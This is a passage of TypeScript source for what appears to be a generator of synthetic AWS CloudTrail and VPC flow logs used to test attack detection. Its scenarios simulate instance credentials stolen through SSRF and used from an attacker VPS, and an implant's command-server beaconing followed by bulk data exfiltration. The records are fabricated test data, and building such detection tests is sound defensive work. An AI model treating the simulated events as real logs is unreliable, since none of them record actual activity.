      const console: Caller = { ...caller, console: true };
      let t = t0 + 10_000;
      for (const [s, n] of [
        ['ec2.amazonaws.com', 'DescribeInstances'],
        ['s3.amazonaws.com', 'ListBuckets'],
        ['iam.amazonaws.com', 'ListUsers'],
      ] as const) {
        t += ctx.rng.range(5, 40) * 1000;
        ctx.ct(t, acct, s === 'ec2.amazonaws.com' ? PRIMARY : GLOBAL, console, {
          source: s,
          name: n,
          readOnly: true,
        });
      }
    },
  },
  {
    id: 'instance-credentials-ssrf',
    rows: ['CRED-1'],
    title:
      "The orders API's instance credentials, taken through SSRF, used from the attacker's VPS",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const host = hostsOf(org, acct, 'app')[0];
      if (host === undefined) return;
      const caller: Caller = {
        identity: roleSession({
          account: acct,
          role: 'orders-api',
          roleId: org.roleIds[`${acct}/orders-api`] as string,
          session: host.instanceId,
          key: sessionKey(ctx.rng),
          created: t0 - 2 * HOUR,
          ec2: { instanceId: host.instanceId },
        }),
        address: ctx.vps('45.155.205.'),
        userAgent: KALI_BOTO,
      };
      const next = steps(ctx, t0, [3, 30]);
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 'sts.amazonaws.com',
        name: 'GetCallerIdentity',
        readOnly: true,
      });
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 's3.amazonaws.com',
        name: 'ListBuckets',
        readOnly: true,
        params: { Host: 's3.amazonaws.com' },
      });
    },
  },
  {
    id: 'c2-beacon-and-exfiltration',
    rows: ['NET-1'],
    title:
      'An implant on an application host beacons to its command server every five minutes, then uploads data on an unusual port',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const host = hostsOf(org, acct, 'app')[1] ?? hostsOf(org, acct, 'app')[0];
      if (host === undefined) return;
      const c2 = ctx.vps('5.188.');
      const flow = (t: number, port: number, up: number, down: number) => {
        const start = Math.floor(t / 1000);
        const end = start + ctx.rng.range(1, 50);
        const eph = ctx.rng.range(32768, 60999);
        const pk = (b: number) => Math.max(1, Math.round(b / 1200));
        ctx.flow(
          t,
          acct,
          flowLine({
            account: acct,
            eni: host.eni,
            src: host.ip,
            dst: c2,
            srcPort: eph,
            dstPort: port,
            protocol: 6,
            packets: pk(up),
            bytes: up,
            start,
            end,
            action: 'ACCEPT',
          }),
        );
        ctx.flow(
          t,
          acct,
          flowLine({
            account: acct,
            eni: host.eni,
            src: c2,
            dst: host.ip,
            srcPort: port,
            dstPort: eph,
            protocol: 6,
            packets: pk(down),
            bytes: down,
            start,
            end,
            action: 'ACCEPT',
          }),
        );
      };
      let t = t0;
      for (let i = 0; i < 96; i++) {
        flow(t, 443, ctx.rng.range(400, 900), ctx.rng.range(300, 700));
        t += 300_000 + ctx.rng.range(-6, 6) * 1000;
      }
      // The upload: 2.4 GB over an hour to port 8443, logged per capture window.
      for (let i = 0; i < 6; i++) flow(t + i * 600_000, 8443, 400_000_000, 2_000_000);
    },
  },
];

/** Scenarios selected by `--attacks`: `all`, or rows / scenario ids separated by commas. */
export function selectScenarios(spec: string | undefined): Scenario[] {
  if (spec === undefined || spec === 'all') return [...SCENARIOS];
  if (spec === 'none' || spec === '') return [];
  const wanted = new Set(spec.split(',').map((s) => s.trim().toUpperCase()));
  return SCENARIOS.filter(
    (s) => wanted.has(s.id.toUpperCase()) || s.rows.some((r) => wanted.has(r)),
  );
}

export interface PlannedAttack {
  scenario: Scenario;
  items: Item[];
  from: number;
  to: number;
}

/**
 * Places the scenarios after the learning period, one every few hours across the remaining days,
 * and builds their records (a few thousand at most, kept sorted by time).
 */
export function planAttacks(org: Org, scenarios: readonly Scenario[]): PlannedAttack[] {
  const rng = Rng.derive(org.seed, 'attacks');
  const first = org.start + (org.learningDays + 1) * DAY;
  const end = org.start + org.days * DAY;
  // The last attack must finish before the logs end (the longest runs about ten hours).
  const last = Math.max(first + HOUR, end - 12 * HOUR);
  const span = last - first;
  const out: PlannedAttack[] = [];
  scenarios.forEach((s, i) => {
    const slot = first + Math.floor(((i + 0.5) * span) / Math.max(1, scenarios.length));
    let t0 = slot + rng.int(HOUR);
    if (s.hour !== undefined) {
      t0 = Math.floor(t0 / DAY) * DAY + s.hour * HOUR + rng.int(50) * MINUTE;
      if (t0 < first) t0 += DAY;
      if (t0 > last) t0 -= DAY;
      if (t0 < first) t0 = first + rng.int(HOUR);
    }
    const ctx = new AttackContext(org, Rng.derive(org.seed, `attack/${s.id}`), s.id);
    s.build(ctx, t0);
    ctx.items.sort((a, b) => a.time - b.time);
    const times = ctx.items.map((x) => x.time);
    out.push({
      scenario: s,
      items: ctx.items,
      from: Math.min(...times),
      to: Math.max(...times),
    });
  });
  return out;
}
